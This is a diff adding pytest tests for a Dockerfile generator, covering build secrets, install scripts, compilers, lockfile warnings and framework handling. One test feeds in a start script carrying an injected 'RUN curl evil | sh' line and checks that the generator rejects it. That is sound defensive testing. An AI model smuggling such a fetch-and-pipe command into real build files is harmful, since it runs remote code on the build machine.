@@ -7,9 +7,11 @@ import json
 import pytest
 
 from dockgen.detection import detect, plan
+from dockgen.errors import UnusableInput
 from dockgen.facts import Evidence, Override, Verdict
 from dockgen.planning import Choices
 from dockgen.rendering import render
+from dockgen.report import next_commands
 from tests.conftest import MakeProject
 
 EXPRESS = {"dependencies": {"express": "5"}, "scripts": {"start": "node server.js"}}
@@ -190,8 +192,187 @@ def test_bun_runs_what_npm_installs_and_the_other_way_round(project: MakeProject
 
 
 def test_a_script_with_a_line_end_never_reaches_the_dockerfile(project: MakeProject) -> None:
-    from dockgen.errors import UnusableInput
-
     package = {"scripts": {"start": "node a.js\nRUN curl evil | sh"}, "dependencies": {"koa": "3"}}
     with pytest.raises(UnusableInput, match="control character"):
         dockerfile_of(project, package)
+
+
+def test_an_installation_does_not_stumble_over_scripts_that_need_sources(
+    project: MakeProject,
+) -> None:
+    package = {
+        "scripts": {"prepare": "husky", "postinstall": "prisma generate", "start": "node a.js"},
+        "dependencies": {"@prisma/client": "^7.0.0", "express": "5"},
+        "devDependencies": {"prisma": "^7.0.0", "husky": "9"},
+    }
+    text = dockerfile_of(project, package, {"package-lock.json": "{}", "a.js": LISTEN})
+    lines = text.splitlines()
+    removal = lines.index("RUN npm pkg delete scripts.postinstall scripts.prepare")
+    assert removal < lines.index("    npm ci") < lines.index("COPY . .")
+    assert lines.index("COPY . .") < lines.index("RUN npm run postinstall")
+    assert "    npm prune --omit=dev --ignore-scripts" in lines
+    assert "husky" not in text
+    assert "COPY --from=dependencies /app/ ./" in lines
+
+
+def test_credentials_come_in_as_secrets_and_are_in_no_layer(project: MakeProject) -> None:
+    files = {
+        "package-lock.json": "{}",
+        ".npmrc": "//npm.example/:_authToken=abc\n",
+        "server.js": LISTEN,
+    }
+    made = project({"package.json": json.dumps(EXPRESS), **files})
+    planned = plan(detect(made))
+    rendered = render(planned)
+    text = rendered["Dockerfile"].text
+    assert "--mount=type=secret,id=npmrc,target=/root/.npmrc,required=true" in text
+    assert "COPY package.json package-lock.json ./" in text
+    assert ".npmrc" in rendered[".dockerignore"].text.splitlines()
+    assert planned.secrets == ("id=npmrc,src=.npmrc",)
+    commands = dict(next_commands(planned, "demo", "Dockerfile", "shop"))
+    assert "--secret id=npmrc,src=shop/.npmrc" in commands["build"]
+
+
+def test_a_token_from_a_variable_comes_in_as_a_secret_of_that_name(project: MakeProject) -> None:
+    files = {
+        "package-lock.json": "{}",
+        ".npmrc": "//npm.example/:_authToken=${NPM_TOKEN}\n",
+        "server.js": LISTEN,
+    }
+    made = project({"package.json": json.dumps(EXPRESS), **files})
+    planned = plan(detect(made))
+    text = render(planned)["Dockerfile"].text
+    assert "--mount=type=secret,id=NPM_TOKEN,required=true" in text
+    assert 'NPM_TOKEN="$(cat /run/secrets/NPM_TOKEN)" npm ci --omit=dev' in text
+    assert "COPY package.json package-lock.json .npmrc ./" in text
+    assert planned.secrets == ("id=NPM_TOKEN,env=NPM_TOKEN",)
+
+
+def test_compilers_stay_in_the_stage_that_installs(project: MakeProject) -> None:
+    package = {**EXPRESS, "dependencies": {"express": "5", "pg-native": "3"}}
+    text = dockerfile_of(project, package, {"package-lock.json": "{}", "server.js": LISTEN})
+    install, runtime = text.split("AS runtime")
+    assert "g++ libpq-dev make python3" in install
+    assert "npm_config_nodedir=/usr/local" in install
+    assert "libpq5" in runtime
+    assert "g++" not in runtime
+
+
+def test_alpine_has_its_own_names(project: MakeProject) -> None:
+    package = {**EXPRESS, "dependencies": {"express": "5", "pg-native": "3"}}
+    files = {"package-lock.json": "{}", "server.js": LISTEN}
+    text = dockerfile_of(project, package, files, Choices(base="alpine"))
+    assert "apk add --no-cache g++ libpq-dev make python3" in text
+    assert text.count("node:26-alpine") == 1
+
+
+def test_puppeteer_gets_the_distributions_browser(project: MakeProject) -> None:
+    package = {**EXPRESS, "dependencies": {"puppeteer": "25"}}
+    text = dockerfile_of(project, package, {"package-lock.json": "{}", "server.js": LISTEN})
+    assert "ENV PUPPETEER_SKIP_DOWNLOAD=true" in text
+    assert "chromium" in text
+
+
+def test_a_stale_lockfile_is_said(project: MakeProject) -> None:
+    lock = json.dumps({"lockfileVersion": 3, "packages": {"": {"dependencies": {"express": "4"}}}})
+    warnings = verdict_of(project, EXPRESS, {"package-lock.json": lock}).findings.warnings
+    assert any("is out of date" in one and "express 5" in one for one in warnings)
+
+
+def test_a_lockfile_of_another_version_is_said(project: MakeProject) -> None:
+    package = {**EXPRESS, "packageManager": "pnpm@8.1.0"}
+    files = {"pnpm-lock.yaml": "lockfileVersion: '9.0'\n"}
+    warnings = verdict_of(project, package, files).findings.warnings
+    assert any("has format 9.0" in one for one in warnings)
+
+
+def test_a_server_that_listens_on_its_own_machine_only_is_said_or_mended(
+    project: MakeProject,
+) -> None:
+    verdict = verdict_of(project, EXPRESS, {"server.js": "app.listen(3000, 'localhost')"})
+    assert any("server.js:1 listens on localhost only" in one for one in verdict.findings.warnings)
+    code = "app.listen(3000, process.env.HOST || 'localhost')"
+    verdict = verdict_of(project, EXPRESS, {"server.js": code})
+    assert verdict.findings.facts["environment"].value == ("HOST=0.0.0.0",)
+
+
+def test_fastify_without_a_host_is_said(project: MakeProject) -> None:
+    package = {"dependencies": {"fastify": "5"}, "scripts": {"start": "node a.js"}}
+    verdict = verdict_of(project, package, {"a.js": "app.listen({ port: 3000 })"})
+    assert any("listens on localhost only" in one for one in verdict.findings.warnings)
+
+
+def test_a_port_from_an_env_file_is_set_because_the_file_is_not_in_the_image(
+    project: MakeProject,
+) -> None:
+    files = {"server.js": "app.listen(process.env.PORT)", ".env": "PORT=5050\n"}
+    text = dockerfile_of(project, EXPRESS, files)
+    assert "ENV PORT=5050" in text
+    assert "EXPOSE 5050" in text
+
+
+def test_public_variables_are_built_in_and_secret_ones_are_not(project: MakeProject) -> None:
+    package = {"devDependencies": {"vite": "8"}, "scripts": {"build": "vite build"}}
+    env = 'VITE_API=https://api.example/$x "y"\nVITE_API_KEY=abc\nDATABASE=secret\n'
+    files = {"package-lock.json": "{}", ".env.production": env}
+    text = dockerfile_of(project, package, files)
+    assert 'ARG VITE_API="https://api.example/\\$x \\"y\\""' in text
+    assert "VITE_API_KEY" not in text
+    assert "DATABASE" not in text
+    warnings = verdict_of(project, package, files).findings.warnings
+    assert any("VITE_API_KEY" in one for one in warnings)
+
+
+def test_a_page_with_settings_gets_them_when_the_container_starts(project: MakeProject) -> None:
+    package = {"devDependencies": {"vite": "8"}, "scripts": {"build": "vite build"}}
+    files = {
+        "package-lock.json": "{}",
+        "index.html": '<script src="/config.js"></script>',
+        "public/config.js": "window.CONFIG = { API: 'x' };",
+    }
+    made = project({"package.json": json.dumps(package), **files})
+    for stages in ("single", "multi"):
+        rendered = render(plan(detect(made), Choices(stages=stages)))
+        assert 'split("API", names, " ")' in rendered["runtime-config.sh"].text
+        assert "/docker-entrypoint.d/40-runtime-config.sh" in rendered["Dockerfile"].text
+        assert "location = /config.js" in rendered["nginx.conf"].text
+
+
+def test_a_framework_with_a_server_of_the_projects_own_keeps_its_sources(
+    project: MakeProject,
+) -> None:
+    package = {
+        "dependencies": {"next": "16", "express": "5"},
+        "scripts": {"build": "next build", "start": "node server.js"},
+    }
+    text = dockerfile_of(project, package, {"package-lock.json": "{}", "server.js": LISTEN})
+    assert "RUN npm run build && rm -rf node_modules" in text
+    assert "COPY --from=build /app/ ./" in text
+    assert 'CMD ["node", "server.js"]' in text
+
+
+def test_a_single_stage_puts_a_bundle_where_it_is_started_from(project: MakeProject) -> None:
+    package = {"dependencies": {"next": "16"}, "scripts": {"build": "next build"}}
+    files = {
+        "package-lock.json": "{}",
+        "next.config.mjs": "export default { output: 'standalone' }",
+    }
+    text = dockerfile_of(project, package, files, Choices(stages="single"))
+    assert "cp -R /app/.next/standalone/. ./" in text
+
+
+def test_angular_is_served_or_started_as_its_configuration_says(project: MakeProject) -> None:
+    package = {"dependencies": {"@angular/core": "22"}, "scripts": {"build": "ng build"}}
+    options: dict[str, object] = {"outputPath": "dist/shop"}
+    build = {"builder": "@angular/build:application", "options": options}
+    files = {"package-lock.json": "{}"}
+    for ssr, expected in (
+        (False, "/app/dist/shop/browser/ /usr/share/nginx/html/"),
+        (True, 'CMD ["node", "dist/shop/server/server.mjs"]'),
+    ):
+        options["ssr"] = ssr
+        workspace = {
+            "projects": {"shop": {"projectType": "application", "architect": {"build": build}}}
+        }
+        text = dockerfile_of(project, package, {**files, "angular.json": json.dumps(workspace)})
+        assert expected in text
